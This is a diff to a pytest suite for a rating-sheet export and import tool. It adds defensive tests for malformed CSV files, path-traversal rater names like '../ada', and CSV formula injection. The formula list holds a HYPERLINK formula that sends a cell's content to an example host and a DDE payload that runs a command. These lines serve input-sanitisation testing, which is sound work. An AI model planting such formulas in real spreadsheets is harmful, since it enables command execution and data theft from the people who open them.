@@ -1,4 +1,8 @@
 import csv
+import json
+import re
+import shutil
+import subprocess
 from html.parser import HTMLParser
 
 import numpy as np
@@ -117,23 +121,111 @@ def test_page_and_table_of_one_rater_have_the_same_order_which_is_their_own(tmp_
     assert orders["ada"] != orders["bob"]
 
 
-@pytest.mark.parametrize("value", ["6", "0", "3.5", "good", "-1"])
+@pytest.mark.parametrize("value", ["6", "0", "3.5", "good", "-1", "9" * 5000])
 def test_a_rating_off_the_scale_is_refused_by_name(tmp_path, rows, value):
     export_sheets(rows, tmp_path, ["ada"])
     fill_in(tmp_path / "ratings_ada.csv", {"scene/2": value})
-    with pytest.raises(ValueError, match=f"ratings_ada.csv: the rating of 'scene/2' is '{value}'"):
+    with (tmp_path / "ratings_ada.csv").open(newline="", encoding="utf-8-sig") as file:
+        row = [row[1] for row in csv.reader(file)].index("scene/2") + 1
+    reason = f"ratings_ada.csv, row {row}: the rating of 'scene/2' is '{value[:30]}.*an integer from 1 to 5"
+    with pytest.raises(ValueError, match=reason):
         import_ratings([tmp_path / "ratings_ada.csv"])
 
 
-def test_other_files_and_double_items_are_refused(tmp_path, rows):
+OTHER_SHEETS = {
+    "name,mark\na,1\n": r": has no column 'id' but \['name', 'mark'\]; save the sheet as CSV",
+    "id,mark\na,1\n": r": has no column 'rating' but",
+    "item;id;text;rating;comment\n1;a;x;3;\n": r": has no column 'id' but .*with commas",
+    "": r": has no column 'id' but \[\]",
+    "id,rating\na,1\n\na,2\n": ", row 4: item 'a' occurs twice; keep one",
+    "id,rating\na,1\n,2\n": ", row 3: a rating without an id; copy the id",
+    b"id,rating\n\xe4,1\n": ": is no CSV in UTF-8",
+    "id,rating\n1,2\n".encode("utf-16"): ": is no CSV in UTF-8",
+    "id,rating\n" + 200_000 * "x": ": is no CSV in UTF-8",
+}
+
+
+@pytest.mark.parametrize("content, reason", OTHER_SHEETS.items(), ids=range(len(OTHER_SHEETS)))
+def test_a_sheet_that_cannot_be_read_is_named_with_the_row_and_what_to_do(tmp_path, content, reason):
     other = tmp_path / "other.csv"
-    other.write_text("name,mark\na,1\n")
-    with pytest.raises(ValueError, match="other.csv: needs the columns id and rating"):
+    other.write_bytes(content if isinstance(content, bytes) else content.encode())
+    with pytest.raises(ValueError, match=f"^{other}{reason}"):
         import_ratings([other])
-    other.write_text("id,rating\na,1\na,2\n")
-    with pytest.raises(ValueError, match="other.csv: item 'a' occurs twice"):
-        import_ratings([other])
+
+
+def test_rows_that_are_short_or_empty_do_no_harm(tmp_path):
+    sheet = tmp_path / "ratings_ada.csv"
+    sheet.write_text("item,id,text,rating,comment\n1,a,x,2\n2,b\n,,,,\n\n3,c,y,4,fine,and,more\n")
+    ratings = import_ratings([sheet])
+    assert (ratings.ids, ratings.values.tolist()) == (["a", "c"], [[2, 4]])
+
+
+def test_two_sheets_of_one_rater_are_refused(tmp_path, rows):
+    for folder in ("a", "b"):
+        export_sheets(rows, tmp_path / folder, ["ada"])
+    with pytest.raises(ValueError, match="b/ratings_ada.csv: there is another sheet of 'ada'"):
+        import_ratings([tmp_path / folder / "ratings_ada.csv" for folder in ("a", "b")])
+
+
+@pytest.mark.parametrize(
+    "rater", ["../ada", ".", "..", ".ada", "ada.", "-ada", "a/b", "a\\b", "a b", "", "ada\n", "ä" * 101]
+)
+def test_a_name_that_makes_no_good_file_name_is_refused(tmp_path, rows, rater):
+    with pytest.raises(ValueError, match="cannot$"):
+        export_sheets(rows, tmp_path, ["ada", rater])
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("rater", ["ada", "a.b-c_d", "Jürgen", "7", "ä" * 100])
+def test_good_names_of_raters(tmp_path, rows, rater):
+    export_sheets(rows, tmp_path, [rater])
+    assert import_ratings([tmp_path / f"ratings_{rater}.csv"]).raters == [rater]
+
+
+def test_double_items_and_raters_are_refused(tmp_path, rows):
     with pytest.raises(ValueError, match="unique"):
         export_sheets([rows[0], rows[0]], tmp_path, ["ada"])
-    with pytest.raises(ValueError, match="'../ada' cannot"):
-        export_sheets(rows, tmp_path, ["../ada"])
+    with pytest.raises(ValueError, match="two raters have the name 'Ada'"):
+        export_sheets(rows, tmp_path, ["ada", "Ada"])
+
+
+# ---------------------------------------------------------------- formulas
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org?" & A1, "click")',
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "'=1",
+    "''=1",
+]
+HARMLESS = ["a", "1=1", "'tis", "''", "", " =1 in the middle"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS + HARMLESS)
+def test_no_cell_is_a_formula_and_ids_come_back_as_they_were(tmp_path, cell):
+    rows = [{"id": f"{cell}{name}", "text": f"{cell}{name}", "image": Image.new("RGB", (4, 4))} for name in "ab"]
+    export_sheets(rows, tmp_path, ["ada"])
+    sheet = tmp_path / "ratings_ada.csv"
+    with sheet.open(newline="", encoding="utf-8") as file:
+        written = list(csv.DictReader(file))
+    for row in written:
+        for column in ("id", "text"):
+            assert not re.match("[=+@\t\r\n＝＋－＠-]", row[column])
+            assert row[column].removeprefix("'" if cell in FORMULAS else "") in (f"{cell}a", f"{cell}b")
+    fill_in(sheet, {row["id"]: "3" for row in written})
+    assert import_ratings([sheet]).ids == [f"{cell}a", f"{cell}b"]
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="needs node, for the page's script")
+def test_the_page_saves_cells_as_the_table_has_them(tmp_path, rows):
+    """The page's own function, run on the cells."""
+    export_sheets(rows, tmp_path, ["ada"])
+    [line] = re.findall("  const noFormula = .*", (tmp_path / "ratings_ada.html").read_text(encoding="utf-8"))
+    script = f"{line}\nconsole.log(JSON.stringify({json.dumps(FORMULAS + HARMLESS)}.map(noFormula)))"
+    result = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True)
+    assert json.loads(result.stdout) == ["'" + cell for cell in FORMULAS] + HARMLESS
